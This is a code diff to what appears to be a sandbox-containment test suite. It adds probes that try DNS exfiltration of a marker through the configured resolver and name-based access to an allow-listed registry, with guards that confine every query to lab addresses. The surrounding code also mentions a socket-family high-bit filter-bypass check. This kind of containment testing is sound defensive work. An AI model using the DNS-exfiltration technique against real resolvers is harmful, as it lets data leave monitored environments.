@@ -279,6 +279,86 @@ ProbeReport dns_exfil(const Params& p) {
   return reached(attempt, ev);
 }
 
+// The resolver this sandbox is given: the `nameserver` parameter (natively: the lab's DNS),
+// or the first nameserver of /etc/resolv.conf if it is an allowlisted sandgate run's own
+// resolver (198.18.0.0/15, the upstream side of the run's link: it refuses what is not listed
+// and never forwards it). Any other resolver (the host's, a stub on loopback that forwards to
+// the real network) is never asked: `why` says so and the result is empty.
+std::string configured_nameserver(const Params& p, std::string& why) {
+  if (auto given = p.get("nameserver"); given && !given->empty()) return *given;
+  std::ifstream conf("/etc/resolv.conf");
+  std::string line;
+  while (std::getline(conf, line)) {
+    std::istringstream words(line);
+    std::string key, value;
+    if (!(words >> key >> value) || key != "nameserver") continue;
+    in_addr a{};
+    if (::inet_pton(AF_INET, value.c_str(), &a) != 1) continue;
+    const uint32_t host = ntohl(a.s_addr);
+    if ((host & 0xfffe0000u) == ((198u << 24) | (18u << 16))) return value;
+    why = "the nameserver of /etc/resolv.conf (" + value +
+          ") is not a sandgate run's resolver (198.18.0.0/15): not asked, nothing sent";
+    return "";
+  }
+  why = "no IPv4 nameserver in /etc/resolv.conf: no resolver here";
+  return "";
+}
+
+// DNS exfiltration through the sandbox's own resolver: the marker as a name, asked of the
+// nameserver it is configured with. A resolver that refuses the name (rcode 5) is a refusal
+// (ECONNREFUSED, the rcode in the evidence); whether it forwarded the name is for the host to
+// say (the lab's DNS logs every name it is asked).
+ProbeReport dns_exfil_resolver(const Params& p) {
+  auto m = marker(p);
+  if (!m) return missing_param("DNS query to the configured resolver", "marker");
+  std::string why;
+  std::string server = configured_nameserver(p, why);
+  std::string name = *m + "." + lab::kExfilDomain;
+  std::string attempt = "DNS A query for " + name + " to the resolver of /etc/resolv.conf";
+  if (server.empty()) return precondition_failed(attempt, why);
+  attempt += " (" + server + ")";
+  if (auto refused = outside_lab(p, AF_INET, server, attempt)) return *refused;
+  Datagram d =
+      send_datagram(server, lab::kDnsPort, dns_query(name, static_cast<uint16_t>(::getpid())));
+  Json ev = {{"peer", peer_name(AF_INET, server, lab::kDnsPort)},
+             {"name", name},
+             {"bytes_sent", d.sent},
+             {"reply_bytes", d.reply.size()}};
+  if (!d.reply.empty()) ev["reply"] = parse_dns_reply(d.reply);
+  if (d.err) return failed(attempt, d.err, ev);
+  if (!d.reply.empty() && ev["reply"].value("rcode", 0) == 5)
+    return failed(attempt, ECONNREFUSED, ev, "the resolver answered REFUSED");
+  return reached(attempt, ev);
+}
+
+// The allow-listed registry by its name: resolved through the configured resolver, then one
+// HTTP request to the address it answered.
+ProbeReport registry_by_name(const Params& p) {
+  std::string why;
+  std::string server = configured_nameserver(p, why);
+  std::string attempt = std::string("resolve ") + lab::kRegistryName +
+                        " through the resolver of /etc/resolv.conf, then GET https://" +
+                        lab::kRegistryName + ":" + std::to_string(lab::kRegistryPort) + "/v2/";
+  if (server.empty()) return precondition_failed(attempt, why);
+  if (auto refused = outside_lab(p, AF_INET, server, attempt)) return *refused;
+  Datagram d = send_datagram(server, lab::kDnsPort,
+                             dns_query(lab::kRegistryName, static_cast<uint16_t>(::getpid())));
+  Json ev = {{"nameserver", server}, {"name", lab::kRegistryName}};
+  if (!d.reply.empty()) ev["reply"] = parse_dns_reply(d.reply);
+  if (d.err) return failed(attempt, d.err, ev);
+  if (d.reply.empty()) return failed(attempt, ETIMEDOUT, ev, "the resolver did not answer");
+  const Json& reply = ev["reply"];
+  if (reply.value("rcode", 0) == 5)
+    return failed(attempt, ECONNREFUSED, ev, "the resolver answered REFUSED");
+  if (!reply.contains("first_a")) return failed(attempt, ENOENT, ev, "no A record in the answer");
+  std::string address = reply["first_a"].get<std::string>();
+  ProbeReport r = http_request(p, AF_INET, address, lab::kRegistryPort, "GET", "/v2/", "");
+  r.attempt = attempt + " (" + address + ")";
+  r.evidence["resolved"] = address;
+  r.evidence["nameserver"] = server;
+  return r;
+}
+
 // A bit above the 32 the kernel reads of socket's `int family`: the register is 64 bits wide,
 // and a filter that compares all of it sees a family that is not the one the kernel uses.
 constexpr unsigned long kIgnoredHighBit = 1UL << 32;
@@ -538,6 +618,14 @@ Status register_net_probes(Catalogue& c) {
                 "DNS query for MARKER.exfil.sandgate.test to 203.0.113.53",
                 {"marker", "lab_routed"},
                 dns_exfil}));
+  SG_TRY(c.add({"net.dns_exfil_resolver",
+                "DNS query for MARKER.exfil.sandgate.test to the resolver of /etc/resolv.conf",
+                {"marker", "lab_routed", "nameserver"},
+                dns_exfil_resolver}));
+  SG_TRY(c.add({"net.registry_by_name",
+                "resolve registry.sandgate.test through /etc/resolv.conf's resolver, then connect",
+                {"marker", "lab_routed", "nameserver"},
+                registry_by_name}));
   SG_TRY(c.add({"net.raw_socket", "create a raw ICMP socket", {}, raw_socket}));
   SG_TRY(c.add({"net.packet_socket",
                 "create an AF_PACKET socket (also with high bits set in the family)",
